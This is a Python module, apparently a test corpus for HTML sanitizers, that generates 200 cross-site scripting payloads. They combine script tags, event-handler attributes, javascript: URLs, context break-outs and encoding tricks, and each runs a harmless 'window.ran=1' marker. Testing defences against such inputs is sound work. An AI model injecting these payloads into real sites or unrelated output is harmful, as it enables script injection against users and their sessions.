"""Two hundred texts that would run a script if a page took them for markup."""

_RUN = "window.ran=1"

#: What runs by itself where markup is read.
_ELEMENTS = [
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script/x>{run}</script>", "<script\n>{run}</script\n>", "<<script>{run}//<</script>",
    "<img src=x onerror={run}>", "<img src=x onerror=\"{run}\">", "<img/src=x/onerror={run}>", "<IMG SRC=x OnErRoR={run}>", "<img src onerror={run}//",
    "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext></table><mglyph><style><img src=x onerror={run}>", "<body onload={run}>", "<iframe srcdoc=\"<script>parent.{run}</script>\">",
    "<iframe src=\"javascript:parent.{run}\">", "<object data=\"data:text/html,<script>parent.{run}</script>\">", "<embed src=\"javascript:{run}\">",
    "<video><source onerror={run}>", "<audio src=x onerror={run}>", "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>", "<details open ontoggle={run}>", "<marquee onstart={run}>", "<meta http-equiv=refresh content=\"0;javascript:{run}\">",
    "<link rel=stylesheet href=x onerror={run}>", "<form><button formaction=javascript:{run} autofocus>", "<a href=\"javascript:{run}\" id=go>x</a>",
    "<style>@import 'x';</style><style onload={run}></style>", "<template><script>{run}</script></template>", "<base href=//x><script src=y></script>",
]

#: Where a text may stand in a page, and how one would get out of there.
_WAYS_OUT = ["{0}", "\"'>{0}", "</textarea>{0}", "</title>{0}", "</script>{0}", "-->{0}"]

_OTHERS = [
    "{{{{{{{run}}}}}}}", "{{{{#run}}}}x{{{{/run}}}}", "${{{run}}}", "#{{{run}}}", "javascript:{run}", "\" onmouseover=\"{run}\" autofocus onfocus=\"{run}",
    "' onfocus='{run}' autofocus x='", "` onfocus={run} autofocus `", "&lt;script&gt;{run}&lt;/script&gt;", "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E", "+ADw-script+AD4-{run}+ADw-/script+AD4-", "\u202e<script>{run}</script>", "<scr\u0131pt>{run}</scr\u0131pt>", "＜script＞{run}＜/script＞",
]

PAYLOADS = [way.format(element.format(run=_RUN)) for way in _WAYS_OUT for element in _ELEMENTS][:200 - len(_OTHERS)] + [
    other.format(run=_RUN) for other in _OTHERS]
assert len(PAYLOADS) == len(set(PAYLOADS)) == 200
